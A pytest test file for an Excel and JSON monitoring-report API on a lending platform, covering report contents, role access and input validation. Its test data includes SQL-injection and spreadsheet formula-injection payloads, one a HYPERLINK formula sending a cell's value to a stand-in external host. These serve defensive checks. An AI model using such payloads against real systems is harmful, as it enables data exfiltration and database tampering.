"""The monitoring's Excel: the monthly report and each table's export, read back with openpyxl;
who may have them; the hostile months, cuts and indicators they refuse; formulas made text."""

from __future__ import annotations

import io
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlmodel import Session, select

from app.accounts.models import Role
from app.audit.models import AuditEvent
from app.audit.service import SystemActor
from app.monitoring.models import MonitoringCell
from app.monitoring.refresh import refresh
from tests.factories import bearer, make_lender, make_user
from tests.monitoring import world

REPORT = "/api/v1/monitoring/report.xlsx"
SHEETS = [
    "说明", "目标达成", "指标总览", "融资对接漏斗", "白名单成效", "按区县", "按行业门类", "按银行",
    "按产品类型", "银行排行榜", "趋势",
]  # fmt: skip


@pytest.fixture
def office(db: Session) -> dict[str, str]:
    return bearer(make_user(db, Role.OFFICE))


@pytest.fixture
def city(db: Session) -> world.City:
    built = world.build(db)
    refresh(db, actor=SystemActor("test"), through="2026-12")
    return built


def sheet_rows(content: bytes, title: str) -> list[tuple[Any, ...]]:
    book = load_workbook(io.BytesIO(content))
    sheet = book[title]
    assert isinstance(sheet, Worksheet)
    return list(sheet.iter_rows(values_only=True))


def by_label(rows: list[tuple[Any, ...]]) -> dict[Any, tuple[Any, ...]]:
    return {r[0]: r for r in rows[2:]}  # below the note and the headers


def test_the_monthly_report_has_every_sheet_and_the_world_s_figures(
    client: TestClient, db: Session, office: dict[str, str], city: world.City
) -> None:
    answer = client.get(REPORT, params={"month": "2026-11"}, headers=office)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert 'filename="monitoring-2026-11.xlsx"' in answer.headers["content-disposition"]
    assert load_workbook(io.BytesIO(answer.content)).sheetnames == SHEETS
    funnel = sheet_rows(answer.content, "融资对接漏斗")
    assert funnel[1] == ("环节", "单位", "当月", "累计")  # counts and ratios: a unit per row
    rows = by_label(funnel)
    assert rows["审批通过"][1:] == ("个", 1, 2) and rows["融资申请"][1:] == ("个", 0, 3)
    assert rows["审批通过率"][1:] == ("%", 100, pytest.approx(66.67))
    overview = by_label(sheet_rows(answer.content, "指标总览"))
    # amounts in 万元: 500,000 yuan lent in November, 1,500,000 in all
    assert overview["平台放款金额"][1:5] == ("万元", 50, None, 150)
    assert overview["平均年利率"][1:3] == ("%", 5)
    district = sheet_rows(answer.content, "按区县")
    assert district[1] == ("指标 \\ 区县", "单位", "吴兴区", "南浔区", "全市")
    assert by_label(district)["平台贷款余额"][2:] == (130, 0, 130)
    whitelist = by_label(sheet_rows(answer.content, "白名单成效"))
    assert whitelist["2026-10"][1:] == (2, 1, 0, 1, 50)
    trend = sheet_rows(answer.content, "趋势")
    assert trend[1][:3] == ("月份", "平台放款笔数（个）", "平台放款金额（万元）")
    assert by_label(trend)["2026-09"][1:3] == (1, 100)
    cover = {r[0]: r[1] for r in sheet_rows(answer.content, "说明")[1:]}
    assert cover["报告月份"] == "2026-11" and "按区县" in cover["工作表"]
    audited = db.exec(
        select(AuditEvent).where(AuditEvent.action == "monitoring.report.exported")
    ).one()
    assert audited.subject_id == "2026-11"


def test_banks_and_enterprises_may_not_have_the_report(
    client: TestClient, db: Session, city: world.City
) -> None:
    for role in (Role.LENDER_USER, Role.ENTERPRISE, Role.DATA_OPERATOR):
        extra: dict[str, Any] = {}
        if role is Role.LENDER_USER:
            extra["lender_id"] = city.bank_a.id
        elif role is Role.ENTERPRISE:
            extra["uscc"] = city.e1.uscc
        caller = bearer(make_user(db, role, **extra))
        answer = client.get(REPORT, params={"month": "2026-11"}, headers=caller)
        assert answer.status_code == 403, role
        table = client.get("/api/v1/monitoring/tables/funnel.xlsx?month=2026-11", headers=caller)
        assert table.status_code == 403, role
    assert client.get(REPORT, params={"month": "2026-11"}).status_code == 401


@pytest.mark.parametrize(
    "month",
    ["2026-13", "2026-1", "２０２６-11", "26-11", "2026-11'; DROP TABLE x;--", "=1+2", "9999-01",
     "x" * 16, "-1"],
)  # fmt: skip
def test_a_bad_month_is_a_422_in_chinese_with_a_stable_code(
    client: TestClient, office: dict[str, str], month: str
) -> None:
    for path in (REPORT, "/api/v1/monitoring/tables/indicators.xlsx"):
        answer = client.get(path, params={"month": month}, headers=office)
        assert answer.status_code == 422, (path, month)
        body = answer.json()
        assert body["code"] in ("monitoring_bad_months", "validation_error")
        if len(month) <= 16:
            assert body["code"] == "monitoring_bad_months" and "月" in body["detail"]


@pytest.mark.parametrize(
    ("query", "status"),
    [
        ("by=enterprise", 422), ("by=district%27--", 422), ("code=DROP", 422),
        ("code=no_such_indicator", 404), ("cumulative=maybe", 422), ("trend_by=uscc", 422),
    ],
)  # fmt: skip
def test_hostile_cuts_and_indicators_are_refused(
    client: TestClient, office: dict[str, str], query: str, status: int
) -> None:
    table = "trend" if "code" in query or "trend_by" in query else "breakdown"
    answer = client.get(
        f"/api/v1/monitoring/tables/{table}.xlsx?month=2026-11&{query}", headers=office
    )
    assert answer.status_code == status, answer.text
    assert answer.headers["content-type"] == "application/problem+json"
    unknown = client.get("/api/v1/monitoring/tables/secrets.xlsx?month=2026-11", headers=office)
    assert unknown.status_code == 422


def test_each_table_exports_as_its_page_shows_it(
    client: TestClient, office: dict[str, str], city: world.City
) -> None:
    base = "/api/v1/monitoring/tables"
    bank = client.get(
        f"{base}/breakdown.xlsx?month=2026-10&by=lender_code&cumulative=true", headers=office
    )
    assert bank.status_code == 200
    assert (
        'filename="monitoring-by_lender_code-2026-10.xlsx"' in bank.headers["content-disposition"]
    )
    rows = sheet_rows(bank.content, "按银行")
    assert rows[1] == ("指标 \\ 银行", "单位", city.bank_a.name, city.bank_b.name, "全市")
    assert by_label(rows)["推送线索数"][2:] == (3, 1, 4)  # through October, cumulative
    trend = client.get(
        f"{base}/trend.xlsx?month=2026-12&code=balance_outstanding&trend_by=district",
        headers=office,
    )
    rows = sheet_rows(trend.content, "平台贷款余额趋势")
    assert rows[1] == ("月份", "吴兴区（万元）")
    assert by_label(rows)["2026-12"] == ("2026-12", 125)  # 80 万元 + 50 less 5 recovered
    targets = client.get(f"{base}/targets.xlsx?month=2026-11", headers=office)
    assert sheet_rows(targets.content, "目标达成")[1][0] == "指标"


def test_a_district_or_bank_named_like_a_formula_comes_out_as_text(
    client: TestClient, db: Session, office: dict[str, str]
) -> None:
    hostile = make_lender(db, "evil-bank")
    hostile.name = '=HYPERLINK("http://x.test/?"&A1,"点我")'
    db.add(hostile)
    for district, lender in (("=1+2", "evil-bank"), ("@SUM(", "")):
        db.add(
            MonitoringCell(
                measure="loans_disbursed", month="2026-11", district=district,
                lender_code=lender, value=3,
            )
        )  # fmt: skip
    db.flush()
    answer = client.get(REPORT, params={"month": "2026-11"}, headers=office)
    assert answer.status_code == 200
    book = load_workbook(io.BytesIO(answer.content))
    for title, expected in (("按区县", {"'=1+2", "'@SUM("}), ("按银行", {"'" + hostile.name})):
        sheet = book[title]
        assert isinstance(sheet, Worksheet)
        headers = {cell.value for cell in sheet[2]}
        assert expected <= headers, headers
        assert all(cell.data_type == "s" for cell in sheet[2] if cell.value)
        assert not any(str(c.value).startswith("=") for row in sheet.iter_rows() for c in row)


def test_each_table_also_answers_as_json_as_its_page_shows_it(
    client: TestClient, office: dict[str, str], city: world.City
) -> None:
    answer = client.get("/api/v1/monitoring/tables/funnel?month=2026-11", headers=office)
    assert answer.status_code == 200, answer.text
    body = answer.json()
    assert body["key"] == "funnel" and body["headers"] == ["环节", "当月", "累计"]
    rows = {row[0]: row[1:] for row in body["rows"]}
    assert rows["审批通过"] == [{"value": 1, "unit": "count"}, {"value": 2, "unit": "count"}]
    assert rows["审批通过率"][1] == {"value": "0.6667", "unit": "ratio"}
    trend = client.get(
        "/api/v1/monitoring/tables/trend?month=2026-12&code=balance_outstanding", headers=office
    ).json()
    assert trend["rows"][-1][:2] == ["2026-12", {"value": 125_000_000, "unit": "fen"}]
    refused = client.get("/api/v1/monitoring/tables/funnel?month=2026-13", headers=office)
    assert refused.status_code == 422 and refused.json()["code"] == "monitoring_bad_months"
